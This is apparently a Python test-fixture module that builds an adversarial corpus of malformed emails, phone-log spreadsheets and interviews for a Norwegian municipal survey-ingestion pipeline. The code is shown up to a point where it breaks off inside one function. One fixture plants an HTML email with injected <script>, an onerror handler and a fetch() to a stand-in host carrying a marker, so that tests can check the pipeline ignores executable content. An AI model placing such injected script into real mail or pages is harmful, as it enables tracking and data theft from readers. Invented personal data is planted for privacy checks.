"""The adversarial corpus: bad raw input of every kind INPUTS.md warns about, built in code.

Why in code and not as files in the repository: each case states in one place
what is wrong with the input and what the pipeline must make of it, so a test
can assert the message, where the record went and how conservation counts it,
and a reader can see the bytes that caused it without opening a binary fixture.

The corpus has three parts:

- a small clean round (:data:`UNITS`, :func:`write_base_round`): a dispatch
  list of 16 units, a few ordinary replies, a clean phone log and one clean
  interview, so that the full pipeline can run on it in seconds;
- the cases (:data:`EMAIL_CASES`, :data:`PHONE_ROW_CASES`, :data:`PHONE_FILE_CASES`,
  :data:`INTERVIEW_CASES`, :data:`DISPATCH_CASES`, :data:`KOSTRA_CASES`), each with
  its expected destination and a fragment of the reason the pipeline must give;
- :func:`write_adversarial_round`, the clean round with every case that can be
  kept planted into it, for the end-to-end test.

Personal data planted in the corpus (:data:`PLANTED_PERSONAL`) is invented and
must never reach an output.
"""

from __future__ import annotations

import hashlib
import html
import io
import json
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path

from openpyxl import Workbook

ROOT = Path(__file__).resolve().parents[1]
REFERENCE = ROOT / "data" / "reference"
ROUND = "t"
CLASSIFICATION = "2015"
SUBJECT = "Kartlegging av lærings- og mestringstjenester i kommunene"
DATE = "Mon, 17 Nov 2014 10:15:00 +0100"

# ---------------------------------------------------------------------------
# The clean round
# ---------------------------------------------------------------------------


@dataclass(frozen=True)
class Unit:
    """One row of the dispatch list."""

    enhet_id: str
    navn: str
    address: str

    @property
    def kommunenummer(self) -> str:
        return self.enhet_id[1:5] if self.enhet_id.startswith("K") else "0301"

    @property
    def bydelsnummer(self) -> str:
        return self.enhet_id[1:] if self.enhet_id.startswith("B") else ""

    @property
    def message_id(self) -> str:
        return f"<{self.enhet_id.lower()}.2014@nklmh.test>"


UNITS: tuple[Unit, ...] = (
    Unit("K0101", "Halden kommune", "postmottak@halden.kommune.no"),
    Unit("K0104", "Moss kommune", "postmottak@moss.kommune.no"),
    Unit("K0219", "Bærum kommune", "postmottak@baerum.kommune.no"),
    Unit("K0301", "Oslo kommune", "postmottak@oslo.kommune.no"),
    Unit("B030102", "Bydel Grünerløkka", "postmottak@bga.oslo.kommune.no"),
    Unit("K0402", "Kongsvinger kommune", "postmottak@kongsvinger.kommune.no"),
    Unit("K0821", "Bø kommune", "postmottak@bo.kommune.no"),
    Unit("K1103", "Stavanger kommune", "postmottak@stavanger.kommune.no"),
    Unit("K1201", "Bergen kommune", "postmottak@bergen.kommune.no"),
    Unit("K1515", "Herøy kommune", "postmottak@heroy.kommune.no"),
    Unit("K1601", "Trondheim kommune", "postmottak@trondheim.kommune.no"),
    Unit("K1804", "Bodø kommune", "postmottak@bodo.kommune.no"),
    Unit("K1818", "Herøy kommune", "postmottak@heroy-nordland.kommune.no"),
    Unit("K1840", "Saltdal kommune", "postmottak@saltdal.kommune.no"),
    Unit("K1841", "Fauske kommune", "postmottak@fauske.kommune.no"),
    Unit("K1867", "Bø kommune", "postmottak@bo.kommune.nordland.no"),
)
UNIT = {u.enhet_id: u for u in UNITS}


def _frame_units() -> tuple[Unit, ...]:
    """Every other kommune and bydel of the 2015 structure, so the dispatch list covers the whole
    frame as a real round's does (443 units); their addresses are invented from the number."""
    from kartlegging.core.classification import load

    cls = load(REFERENCE, CLASSIFICATION)
    units = [Unit(f"K{code}", f"{cls.kommuner[code].name} kommune", f"postmottak@k{code}.kommune.test")
             for code in sorted(cls.kommuner) if f"K{code}" not in UNIT]
    units += [Unit(f"B{code}", f"Bydel {name}", f"postmottak@b{code}.oslo.kommune.test")
              for code, name in sorted(cls.bydeler.items()) if f"B{code}" not in UNIT]
    return tuple(units)


#: The whole dispatch frame: the named units first, then every other kommune and bydel.
ALL_UNITS: tuple[Unit, ...] = UNITS + _frame_units()

DISPATCH_HEADER = "enhet_id;kommunenummer;bydelsnummer;enhet_navn;mottaker_rolle;epost;message_id;sendt"

#: Invented personal data planted in the corpus: none of it may reach an output.
PLANTED_NAMES = ("Vigdis Trollvik", "Eldar Kvalnes", "Ronja Flatmo", "Sverre Lyngmo", "Gunvor Strandli")
PLANTED_PHONES = ("41 23 45 67", "+47 92 34 56 78", "48765432")
PLANTED_ADDRESSES = ("vigdis.trollvik@bodo.kommune.no", "eldar.kvalnes@gmail.com", "ronja.flatmo@saltdal.kommune.no")
#: Foreign names, long (foreign) phone numbers and Message-IDs, planted in signatures, subjects and
#: quoted text: the privacy scan collects them from the raw files and finds none in any output.
PLANTED_FOREIGN_NAMES = ("Zbigniew Brzęczyszczykiewicz", "Siobhán O'Connor", "José García Márquez",
                         "Ingrid Åkesson-Lindqvist")
PLANTED_LONG_NUMBERS = ("+48 601 234 567", "+44 20 7946 0958", "004790123456", "0046 70 123 45 67")
PLANTED_MESSAGE_IDS = ("CAF3x7Qm.zbigniew.brzeczyszczykiewicz@mail.gmail.com",
                       "AM6PR0302MB.siobhan.oconnor@eurprd03.prod.outlook.com")
PLANTED_PERSONAL = PLANTED_NAMES + PLANTED_PHONES + PLANTED_ADDRESSES
#: Text inside ``<script>`` and an ``onerror`` handler: executable content, never to be read or copied.
SCRIPT_MARKER = "INJISERT-SKRIPT-7731"


def dispatch_line(u: Unit, role: str | None = None) -> str:
    role = role or ("bydelsdirektør" if u.enhet_id.startswith("B") else "rådmann")
    return ";".join([u.enhet_id, u.kommunenummer, u.bydelsnummer, u.navn, role, u.address, u.message_id,
                     "2014-11-10"])


def dispatch_text(units: tuple[Unit, ...] = ALL_UNITS, extra: tuple[str, ...] = ()) -> str:
    return "\n".join([DISPATCH_HEADER, *(dispatch_line(u) for u in units), *extra]) + "\n"


def eml(*, sender: str, subject: str, body: str | bytes, date: str | None = DATE,
        content_type: str = 'text/plain; charset="utf-8"', cte: str = "8bit",
        headers: tuple[tuple[str, str], ...] = (), message_id: str | None = None) -> bytes:
    """One RFC 5322 message as a mail client saves it; the body bytes are written as given."""
    lines = [f"From: {sender}", "To: Kartlegging NK LMH <kartlegging@nklmh.no>", f"Subject: {subject}"]
    if date is not None:
        lines.append(f"Date: {date}")
    digest = hashlib.sha1(f"{sender}|{subject}|{date}|{body!r}".encode()).hexdigest()[:16]
    lines.append(f"Message-ID: {message_id or '<' + digest + '@corpus.test>'}")
    lines += [f"{k}: {v}" for k, v in headers]
    lines += ["MIME-Version: 1.0", f"Content-Type: {content_type}", f"Content-Transfer-Encoding: {cte}"]
    head = ("\r\n".join(lines) + "\r\n\r\n").encode("utf-8")
    data = body if isinstance(body, bytes) else body.replace("\n", "\r\n").encode("utf-8")
    return head + data


def reply(enhet_id: str, answer: str, *, sender: str | None = None, date: str | None = DATE,
          signature: str = "Med vennlig hilsen\nHelseleder") -> bytes:
    """An ordinary tagged reply from a unit's own mailbox."""
    u = UNIT[enhet_id]
    return eml(sender=sender or f"{u.navn} <{u.address}>", subject=f"SV: {SUBJECT} [{enhet_id}]",
               body=f"Hei\n\n{answer}\n\n{signature}\n{u.navn}\n", date=date,
               headers=(("In-Reply-To", u.message_id),))


def xlsx_bytes(sheets: dict[str, list[list[object]]]) -> bytes:
    """A workbook with the given sheets (a string starting ``=`` is a formula, ``#REF!`` an error value)."""
    wb = Workbook()
    wb.remove(wb.active)
    for name, rows in sheets.items():
        ws = wb.create_sheet(name)
        for row in rows:
            ws.append(row)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


PHONE_HEADER = ["Kommune/bydel", "Kommunenr", "Dato", "Kontakt", "Svar", "Kommentar"]
#: Clean phone rows: (name, number, date, kontakt, svar, kommentar).
PHONE_BASE: tuple[tuple[object, ...], ...] = (
    ("Kongsvinger", None, "12.11.2014", "sentralbord", "ikke svar", None),
    ("Kongsvinger", "402", "13.11.2014", "helseleder", "nei", "Ringer igjen hvis de starter opp."),
    ("Stavanger", None, date(2014, 11, 14), "servicetorg", "Ja", None),
    ("Bergen", 1201, "14.11.2014", "frisklivssentral", "nei", None),
)


#: One inconclusive call to every kommune the named units leave out, as the real phone round
#: called every unit that had not replied: every kommune is then in some source, as in a real
#: round, and the figures and the map see a whole country rather than 16 kommuner.
PHONE_FILL: tuple[tuple[object, ...], ...] = tuple(
    (None, u.kommunenummer, "20.11.2014", "sentralbord", "ikke svar", None)
    for u in ALL_UNITS if u.enhet_id.startswith("K") and u.enhet_id not in UNIT)


def phone_log(rows: list[list[object]] | tuple[tuple[object, ...], ...], header: list[str] = PHONE_HEADER,
              sheet: str = "Telefonrunde") -> bytes:
    return xlsx_bytes({sheet: [header, *[list(r) for r in rows]]})


#: A complete interview of an included kommunal service hosted by Bodø.
INTERVIEW_BASE: dict[str, object] = {
    "T01": "Lærings- og mestringssenteret i Bodø", "T02": "Bodø", "T03": None, "T04": "kommunal",
    "T05": None, "T06": "eget senter", "T07": None, "T08": "ja", "T09": "ja", "T10": "5",
    "T11": "diabetes, KOLS", "T12": "via brukerorganisasjoner", "T13": "ja", "T14": "ja", "T15": "ja",
    "T16": "nei", "T17": "ja", "T18": "ja", "T19": "tjeneste", "T20": PLANTED_NAMES[3],
    "T21": f"{PLANTED_PHONES[0]} / {PLANTED_ADDRESSES[0]}", "T22": date(2014, 12, 8), "T23": "«Det virker»",
}


def interview(answers: dict[str, object] | None = None, *, rows: list[list[object]] | None = None,
              sheet: str = "Intervju", extra_sheets: dict[str, list[list[object]]] | None = None) -> bytes:
    """An interview workbook: title row, blank row, header ``Nr | Spørsmål | Svar | Kommentar``, items."""
    if rows is None:
        merged = {**INTERVIEW_BASE, **(answers or {})}
        rows = [[code, f"spørsmål {code}", value, None] for code, value in merged.items()]
    body = [["Intervjuskjema 2015"], [], ["Nr", "Spørsmål", "Svar", "Kommentar"], *rows]
    return xlsx_bytes({**(extra_sheets or {}), sheet: body})


def write_base_round(raw_dir: Path, name: str = ROUND) -> Path:
    """The clean round: the whole dispatch frame, four replies, a phone log (four named rows and one
    inconclusive call to every other kommune), one interview."""
    rd = raw_dir / name
    (rd / "epost").mkdir(parents=True, exist_ok=True)
    (rd / "intervjuer").mkdir(parents=True, exist_ok=True)
    (rd / "utsendelse.csv").write_text(dispatch_text(), encoding="utf-8")
    base = {
        "base-bodo.eml": reply("K1804", "1. Ja\n2. Lærings- og mestringssenteret\n5. -"),
        "base-halden.eml": reply("K0101", "1. Nei\n5. Nei"),
        "base-oslo.eml": reply("K0301", "1. Vet ikke\n5. Vet ikke"),
        "base-fauske.eml": reply("K1841", "Nei, vi har dessverre ikke en slik tjeneste.\n\n5. Nei"),
    }
    for fname, data in base.items():
        (rd / "epost" / fname).write_bytes(data)
    (rd / "telefonrunde.xlsx").write_bytes(phone_log(PHONE_BASE + PHONE_FILL))
    (rd / "intervjuer" / "20141208 LMS Bodø.xlsx").write_bytes(interview())
    return rd


# ---------------------------------------------------------------------------
# E-mail cases: each writes files into epost/ and names the status of each
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class EmailCase:
    """Files for ``epost/`` and what becomes of each: its ``status`` and, if any, the issue raised."""

    id: str
    what: str
    files: dict[str, bytes]
    status: dict[str, str]
    reason: str | None = None      # fragment of the issue's reason
    action: str | None = None      # review | quarantine
    issue_file: str | None = None  # the file the issue names (default: the only file)
    q1: dict[str, str | None] = field(default_factory=dict)
    enhet: dict[str, str | None] = field(default_factory=dict)  # file -> enhet_id expected (None: unidentified)


def _truncated_multipart() -> bytes:
    """A multipart message cut off inside its base64 attachment: no closing boundary."""
    head = eml(sender="Askim kommune <postmottak@k0124.kommune.test>", subject=f"SV: {SUBJECT} [K0124]",
               body=b"", content_type='multipart/mixed; boundary="XYZ"', cte="7bit")
    body = (b"--XYZ\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n1. Ja\r\n\r\n"
            b"--XYZ\r\nContent-Type: application/pdf; name=svar.pdf\r\nContent-Transfer-Encoding: base64\r\n"
            b"Content-Disposition: attachment; filename=svar.pdf\r\n\r\nJVBERi0xLjQKJcOkw7zDtsOfCjIgMCBvYmoKPDwvTGVuZ3")
    return head + body


def _html_with_script() -> bytes:
    html = (
        "<html><head><script>document.write('Ja, vi har en slik tjeneste " + SCRIPT_MARKER + "');</script>"
        "<style>p {color: red}</style></head><body>"
        "<p>Hei</p><p>Nei, vi har ikke en slik tjeneste.</p>"
        f"<img src=\"x\" onerror=\"alert('Ja {SCRIPT_MARKER}')\">"
        "<script>fetch('https://example.invalid/?q=" + SCRIPT_MARKER + "')</script>"
        "<p>Med vennlig hilsen<br>Moss kommune</p></body></html>"
    )
    return eml(sender="Moss kommune <postmottak@moss.kommune.no>", subject=f"SV: {SUBJECT} [K0104]",
               body=html, content_type='text/html; charset="utf-8"')


def _attachment_only(enhet_id: str = "K1515", filename: str = "svar.docx") -> bytes:
    u = UNIT[enhet_id]
    head = eml(sender=f"{u.navn} <{u.address}>", subject=f"SV: {SUBJECT} [{enhet_id}]",
               body=b"", content_type='multipart/mixed; boundary="B1"', cte="7bit")
    name = filename.encode("utf-8")
    body = (b"--B1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nSe vedlagt svar.\r\n\r\n"
            b"--B1\r\nContent-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;"
            b' name="' + name + b'"\r\nContent-Transfer-Encoding: base64\r\n'
            b'Content-Disposition: attachment; filename="' + name + b'"\r\n\r\nUEsDBBQAAAAIAA==\r\n--B1--\r\n')
    return head + body


#: The questionnaire as the project sent it (no kommune named in it), for quoting in replies.
LETTER = (
    "Hei,\n\nNasjonal kompetansetjeneste for læring og mestring innen helse (NK LMH) kartlegger kommunale "
    "lærings- og\nmestringstjenester. Svar gjerne direkte på denne e-posten.\n\n"
    "1. Har kommunen (bydelen) en lærings- og mestringstjeneste? (ja / nei / vet ikke)\n\n"
    "2. Hva heter tjenesten, og hvor er den organisatorisk plassert?\n\n"
    "3. Er tjenesten kommunal eller interkommunal?\n\n"
    "4. Navn, telefon og e-post til leder eller koordinator.\n\n"
    "5. Har kommunen planer om å etablere en slik tjeneste? (ja / nei / vet ikke)\n\n"
    "Vennlig hilsen\nProsjektgruppa for kartleggingen\nNK LMH"
)
GMAIL_ATTRIBUTION = "Den man. 17. nov. 2014 kl. 10:15 skrev Kartlegging NK LMH <kartlegging@nklmh.no>:"
OUTLOOK_HEADER = ("-----Original Message-----\nFrom: Kartlegging NK LMH [mailto:kartlegging@nklmh.no]\n"
                  f"Sent: 17. november 2014 10:15\nTo: Postmottak\nSubject: {SUBJECT}\n")


def _quoted(text: str) -> str:
    return "\n".join(("> " + ln).rstrip() for ln in text.split("\n"))


def _letter_html() -> str:
    return "".join(f"<p>{html.escape(p).replace(chr(10), '<br>')}</p>" for p in LETTER.split("\n\n"))


def _private(subject: str = f"SV: {SUBJECT}", body: str | bytes = "", **kw) -> bytes:
    """A reply from a private address, no tag and no In-Reply-To: only the text can name the unit."""
    return eml(sender=kw.pop("sender", "Helse <helse.kontoret@gmail.com>"), subject=subject, body=body, **kw)


#: The sender's own sign-off or disclaimer below the quoted questionnaire identifies the unit;
#: a kommune named inside someone else's quoted message never does. Several layouts each.
IDENTIFICATION_CASES: tuple[EmailCase, ...] = (
    EmailCase("e-signoff-below-gmail-quote", "plain text: answers, Gmail's '>' quote, then the sign-off",
              {"under-sitat.eml": _private(body=f"1. Nei\n5. Nei\n\n{GMAIL_ATTRIBUTION}\n{_quoted(LETTER)}\n\n"
                                                "Med vennlig hilsen\nTorbjørg\nHelse og omsorg, Hvaler kommune\n")},
              {"under-sitat.eml": "svar"}, q1={"under-sitat.eml": "nei"}, enhet={"under-sitat.eml": "K0111"}),
    EmailCase("e-disclaimer-below-outlook-quote", "plain text: Outlook's header block, the letter unquoted, "
              "then an Exchange transport-rule disclaimer naming the kommune",
              {"ansvarsfraskrivelse.eml": _private(
                  body=f"Nei, vi har ingen slik tjeneste og ingen planer.\n\n{OUTLOOK_HEADER}\n{LETTER}\n\n"
                       "Denne e-posten er sendt fra Aremark kommune. Innholdet kan være taushetsbelagt.\n")},
              {"ansvarsfraskrivelse.eml": "svar"}, q1={"ansvarsfraskrivelse.eml": "nei"},
              enhet={"ansvarsfraskrivelse.eml": "K0118"}),
    EmailCase("e-signoff-below-gmail-html", "HTML: answers, the gmail_quote blockquote, then a signature div",
              {"under-sitat-html.eml": _private(
                  body=('<div dir="ltr">1. Ja<br>5. Nei</div><br><div class="gmail_quote"><div class="gmail_attr">'
                        f"{html.escape(GMAIL_ATTRIBUTION)}<br></div><blockquote class=\"gmail_quote\">{_letter_html()}"
                        "</blockquote></div><div>Mvh<br>Rune<br>Marker kommune</div>"),
                  content_type='text/html; charset="utf-8"')},
              {"under-sitat-html.eml": "svar"}, q1={"under-sitat-html.eml": "ja"},
              enhet={"under-sitat-html.eml": "K0119"}),
    EmailCase("e-disclaimer-below-outlook-html", "HTML: Outlook's divRplyFwdMsg header block, the letter, "
              "then a disclaimer paragraph naming the kommune",
              {"ansvarsfraskrivelse-html.eml": _private(
                  body=("<div>Vi har ikke en slik tjeneste, og ingen planer.</div><hr><div id=\"divRplyFwdMsg\">"
                        "<b>From:</b> Kartlegging NK LMH &lt;kartlegging@nklmh.no&gt;<br><b>Sent:</b> 17. november "
                        f"2014 10:15<br><b>To:</b> Postmottak<br><b>Subject:</b> {SUBJECT}</div><div>{_letter_html()}"
                        "</div><p>Denne meldingen er sendt fra Rømskog kommune.</p>"),
                  content_type='text/html; charset="utf-8"')},
              {"ansvarsfraskrivelse-html.eml": "svar"}, q1={"ansvarsfraskrivelse-html.eml": "nei"},
              enhet={"ansvarsfraskrivelse-html.eml": "K0121"}),
    EmailCase("e-kommune-only-in-gmail-quote", "plain text: the only kommune named is in the signature of "
              "someone else's '>'-quoted message",
              {"annens-sitat.eml": _private(
                  body=("Vi svarer det samme som i meldingen under.\n\nMvh\nOla\n\n"
                        "Den 18. nov. 2014 kl. 09:00 skrev Postmottak <postmottak@fauske.kommune.no>:\n"
                        "> 1. Nei\n> 5. Nei\n>\n> Med vennlig hilsen\n> Fauske kommune\n"))},
              {"annens-sitat.eml": "til_vurdering"}, "no unit identified", "review",
              enhet={"annens-sitat.eml": None}),
    EmailCase("e-kommune-only-in-html-quote", "HTML: the only kommune named is inside the gmail_quote blockquote",
              {"annens-sitat-html.eml": _private(
                  body=('<div>Samme svar her.</div><div>Mvh Ola</div><div class="gmail_quote">'
                        "<div class=\"gmail_attr\">Den 18. nov. 2014 kl. 09:00 skrev Postmottak Saltdal:<br></div>"
                        "<blockquote>1. Ja<br>5. -<br><br>Hilsen<br>Saltdal kommune</blockquote></div>"),
                  content_type='text/html; charset="utf-8"')},
              {"annens-sitat-html.eml": "til_vurdering"}, "no unit identified", "review",
              enhet={"annens-sitat-html.eml": None}),
    EmailCase("e-kommune-only-in-outlook-quote", "plain text: Outlook's header block over someone else's reply "
              "(not the questionnaire) signed by a kommune: no end of a questionnaire, so nothing below it",
              {"annens-outlook.eml": _private(
                  body=("Se svaret under.\n\n-----Original Message-----\nFrom: Helseleder\n"
                        "Sent: 18. november 2014 09:00\nTo: Postmottak\nSubject: SV: Kartlegging\n\n"
                        "1. Nei\n5. Nei\n\nMvh\nFauske kommune\n"))},
              {"annens-outlook.eml": "til_vurdering"}, "no unit identified", "review",
              enhet={"annens-outlook.eml": None}),
)

#: A forward whose own text answers: the forwarded message below is someone else's and names nothing.
IDENTIFICATION_CASES += (
    EmailCase("e-kommune-only-in-forwarded-message", "VS: the forwarder answers in their own text; the "
              "kommune named is in the forwarded message from another kommune",
              {"videresendt-annen.eml": _private(
                  subject="VS: SV: Kartlegging",
                  body=("1. Nei\n5. Nei\n\nVideresender til orientering.\n\n-----Opprinnelig melding-----\n"
                        "Fra: Postmottak\nSendt: 18. november 2014 09:00\nTil: Helse\nEmne: SV: Kartlegging\n\n"
                        "Vi har en frisklivssentral.\n\nMvh\nFauske kommune\n"))},
              {"videresendt-annen.eml": "til_vurdering"}, "no unit identified", "review",
              enhet={"videresendt-annen.eml": None}),
)

#: Foreign names, long numbers and Message-IDs in signatures, subjects and quoted text.
PRIVACY_CASES: tuple[EmailCase, ...] = (
    EmailCase("e-foreign-names-unidentified", "an unidentified reply: a foreign name and a long number in the "
              "subject, a sign-off 'BR, Bob' and a foreign name and number in the signature and the quote",
              {"utenlandsk.eml": eml(
                  sender=f"{PLANTED_FOREIGN_NAMES[0]} <zbigniew.b@gmail.com>",
                  subject=f"Svar fra {PLANTED_FOREIGN_NAMES[0]}, tlf {PLANTED_LONG_NUMBERS[0]}",
                  message_id=f"<{PLANTED_MESSAGE_IDS[0]}>",
                  headers=(("References", f"<{PLANTED_MESSAGE_IDS[1]}>"),),
                  body=(f"1. Nei\n5. Nei\n\nBR, Bob\n{PLANTED_FOREIGN_NAMES[1]}\nTel. {PLANTED_LONG_NUMBERS[1]}\n\n"
                        f"On Mon, 17 Nov 2014 at 10:15, {PLANTED_FOREIGN_NAMES[2]} <jose.garcia@example.es> wrote:\n"
                        f"> Ring meg på {PLANTED_LONG_NUMBERS[2]}\n> {PLANTED_FOREIGN_NAMES[2]}\n"))},
              {"utenlandsk.eml": "til_vurdering"}, "no unit identified", "review"),
    EmailCase("e-foreign-name-in-answer", "an answer the rules cannot code, naming a person and a long number",
              {"ukodet-navn.eml": eml(
                  sender="Trøgstad kommune <postmottak@k0122.kommune.test>", subject=f"SV: {SUBJECT} [K0122]",
                  body=(f"1. Tja – spør {PLANTED_FOREIGN_NAMES[3]} på {PLANTED_LONG_NUMBERS[3]}\n5. -\n\n"
                        f"Mvh\n{PLANTED_FOREIGN_NAMES[3]}\n"))},
              {"ukodet-navn.eml": "svar"}, "answer to question 1 could not be coded", "review",
              q1={"ukodet-navn.eml": "uklart"}),
)


EMAIL_CASES: tuple[EmailCase, ...] = (
    EmailCase("e-truncated-headers", "a .eml cut off inside its header block",
              {"avkuttet-hode.eml": b"From: Bodo kommune <postmottak@bodo.kommune.no>\r\nSubject: SV: [K1804]\r\nDa"},
              {"avkuttet-hode.eml": "karantene"}, "truncated: the file ends inside the header block", "quarantine"),
    EmailCase("e-truncated-mime", "a multipart .eml cut off inside its base64 attachment: the text part is "
              "whole, so the reply is read (salvage before quarantine) with a defect item",
              {"avkuttet-vedlegg.eml": _truncated_multipart()},
              {"avkuttet-vedlegg.eml": "svar"}, "the final MIME boundary is missing", "review",
              q1={"avkuttet-vedlegg.eml": "ja"}),
    EmailCase("e-wrong-charset", "declared utf-8, body in windows-1252 (æ, ø, å as single bytes)",
              {"feil-tegnsett.eml": eml(sender="Bærum kommune <postmottak@baerum.kommune.no>",
                                        subject=f"SV: {SUBJECT} [K0219]",
                                        body="Hei\r\n\r\nNei, vi har dessverre ingen lærings- og mestringstjeneste "
                                             "i Bærum.\r\n\r\n5. Vi vurderer å etablere en.\r\n".encode("cp1252"))},
              {"feil-tegnsett.eml": "svar"}, q1={"feil-tegnsett.eml": "nei"}),
    EmailCase("e-unknown-charset", "a charset no codec knows (x-ukjent-8), body in latin-1",
              {"ukjent-tegnsett.eml": eml(sender="Trondheim kommune <postmottak@trondheim.kommune.no>",
                                          subject=f"SV: {SUBJECT} [K1601]",
                                          body="1. Nei\r\n5. Nei, ingen planer for år 2015.\r\n".encode("latin-1"),
                                          content_type='text/plain; charset="x-ukjent-8"')},
              {"ukjent-tegnsett.eml": "svar"}, "read as windows-1252", "review", q1={"ukjent-tegnsett.eml": "nei"}),
    EmailCase("e-html-script", "HTML-only mail with <script> and <img onerror> claiming 'Ja'",
              {"html-skript.eml": _html_with_script()},
              {"html-skript.eml": "svar"}, q1={"html-skript.eml": "nei"}),
    EmailCase("e-no-unit", "a reply from a private address with no tag, reply id or kommune named",
              {"ukjent-avsender.eml": eml(sender=f"{PLANTED_NAMES[1]} <{PLANTED_ADDRESSES[1]}>",
                                          subject="Svar på spørreundersøkelsen",
                                          body=f"1. Nei\n5. Nei\n\nHilsen\n{PLANTED_NAMES[1]}\n"
                                               f"tlf {PLANTED_PHONES[1]}\n")},
              {"ukjent-avsender.eml": "til_vurdering"}, "no unit identified", "review"),
    EmailCase("e-same-date-conflict", "two replies from Saltdal with the same Date, one ja and one nei",
              {"saltdal-a.eml": reply("K1840", "1. Ja\n5. -", signature=f"Mvh\n{PLANTED_NAMES[2]}"),
               "saltdal-b.eml": reply("K1840", "1. Nei\n5. Nei", signature=f"Mvh\n{PLANTED_NAMES[2]}\n"
                                                                          f"{PLANTED_ADDRESSES[2]}")},
              {"saltdal-a.eml": "erstattet", "saltdal-b.eml": "svar"},
              "two replies with the same Date from K1840", "review", issue_file="saltdal-b.eml",
              q1={"saltdal-b.eml": "nei"}),
    EmailCase("e-empty", "an empty .eml (0 bytes)", {"tom.eml": b""}, {"tom.eml": "karantene"},
              "empty file", "quarantine"),
    EmailCase("e-whitespace", "a .eml holding only blank lines", {"blank.eml": b"\r\n\r\n  \r\n"},
              {"blank.eml": "karantene"}, "empty file", "quarantine"),
    EmailCase("e-not-mail-pdf", "a PDF saved into epost/",
              {"svarskjema.pdf": b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj\n"},
              {"svarskjema.pdf": "karantene"}, "not an .eml file", "quarantine"),
    EmailCase("e-binary-eml", "a PNG renamed to .eml", {"bilde.eml": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00"},
              {"bilde.eml": "karantene"}, "binary content", "quarantine"),
    EmailCase("e-no-headers", "plain text saved as .eml, no header block",
              {"notat.eml": b"Vi har ikke en slik tjeneste i Halden.\nMvh\n"},
              {"notat.eml": "karantene"}, "no e-mail headers", "quarantine"),
    EmailCase("e-auto-reply", "an out-of-office reply (Auto-Submitted)",
              {"fravaer.eml": eml(sender="Kongsvinger kommune <postmottak@kongsvinger.kommune.no>",
                                  subject=f"Automatisk svar: {SUBJECT} [K0402]",
                                  body="Jeg er på ferie til 1. desember.\n",
                                  headers=(("Auto-Submitted", "auto-replied"),))},
              {"fravaer.eml": "autosvar"}),
    EmailCase("e-attachment-answer", "the answer only in a .docx attachment",
              {"vedlegg.eml": _attachment_only()}, {"vedlegg.eml": "svar"},
              "answer in attachment", "review", q1={"vedlegg.eml": "uklart"}),
    EmailCase("e-attachment-personal-name", "an attachment named after a person's address and phone number",
              {"vedlegg-navn.eml": _attachment_only("K1103", f"Svar fra {PLANTED_ADDRESSES[1]} "
                                                              f"{PLANTED_PHONES[2]}.docx")},
              {"vedlegg-navn.eml": "svar"}, "answer in attachment", "review", q1={"vedlegg-navn.eml": "uklart"}),
    EmailCase("e-quoted-only", "a reply that only quotes the questionnaire (its ja/nei options are no answer)",
              {"bare-sitat.eml": reply("K1201", "> 1. Har kommunen en lærings- og mestringstjeneste? (ja / nei / "
                                                "vet ikke)\n> 5. Har kommunen planer om å etablere en slik "
                                                "tjeneste? (ja / nei / vet ikke)")},
              {"bare-sitat.eml": "svar"}, "answer to question 1", "review", q1={"bare-sitat.eml": "uklart"}),
) + IDENTIFICATION_CASES + PRIVACY_CASES


# ---------------------------------------------------------------------------
# Phone cases
# ---------------------------------------------------------------------------

@dataclass(frozen=True)
class PhoneRowCase:
    """One row of the phone log and what becomes of it (``ingested``: unit resolved; ``review``: not)."""

    id: str
    what: str
    row: tuple[object, ...]
    destination: str
    field: str | None = None
    reason: str | None = None


PHONE_ROW_CASES: tuple[PhoneRowCase, ...] = (
    PhoneRowCase("p-unknown-name", "a kommune name no Klass version knows",
                 ("Narnia", None, "12.11.2014", "sentralbord", "nei", None), "review", "enhet_id",
                 "no kommune or bydel of the 2015 classification has this name"),
    PhoneRowCase("p-ambiguous-name", "a name several kommuner share, without a number",
                 ("Bø", None, "12.11.2014", "servicetorg", "ja", None), "review", "enhet_id",
                 "ambiguous name, candidates: K0821"),
    PhoneRowCase("p-other-version-number", "a kommune number of a later Klass version (5001 Trondheim)",
                 (None, "5001", "12.11.2014", "sentralbord", "ja", None), "review", "enhet_id",
                 "a number from another Klass version?"),
    PhoneRowCase("p-other-version-name", "a kommune name of a later Klass version (Indre Østfold)",
                 ("Indre Østfold", None, "12.11.2014", "sentralbord", "nei", None), "review", "enhet_id",
                 "no kommune or bydel of the 2015 classification has this name"),
    PhoneRowCase("p-formula", "a formula in the Svar column",
                 ("Herøy (Nordland)", None, "13.11.2014", "helseleder", "=IF(A2=\"\",\"ja\",\"nei\")", None),
                 "ingested", "Svar", "formula where a typed value should be"),
    PhoneRowCase("p-error-value", "an error value #REF! in the Dato column",
                 ("Trondheim", None, "#REF!", "helseleder", "nei", None), "ingested", "Dato",
                 "error where a typed value should be"),
    PhoneRowCase("p-only-error-value", "a row whose only content is an error value",
                 (None, None, "#N/A", None, None, None), "review", "Dato", "error where a typed value should be"),
    PhoneRowCase("p-bad-date", "a date that does not exist (31.02.2014)",
                 ("Halden", None, "31.02.2014", "sentralbord", "nei", None), "ingested", "dato", None),
    PhoneRowCase("p-unrecognised-answer", "an answer the rules cannot code",
                 ("Moss", None, "12.11.2014", "sentralbord", "tja, kanskje neste år", None), "ingested", "svar",
                 "phone answer not recognised"),
    PhoneRowCase("p-kontakt-person", "Kontakt holds a person's name, phone and e-mail instead of a role",
                 ("Bodø", None, "12.11.2014", f"{PLANTED_NAMES[0]}, helseleder, {PLANTED_PHONES[2]}, "
                                               f"{PLANTED_ADDRESSES[0]}", "ja", f"Snakket med {PLANTED_NAMES[4]}"),
                 "ingested"),
    PhoneRowCase("p-extra-column-note", "a note typed in an extra, unread column of an otherwise empty row",
                 (None, None, None, None, None, None, "ringt 3 ganger"), "skipped"),
)


def phone_rows_log(cases: tuple[PhoneRowCase, ...] = PHONE_ROW_CASES,
                   base: tuple[tuple[object, ...], ...] = PHONE_BASE) -> tuple[bytes, dict[str, int]]:
    """The phone log with the base rows then one row per case; also each case's Excel row."""
    header = PHONE_HEADER + ["Notat"]
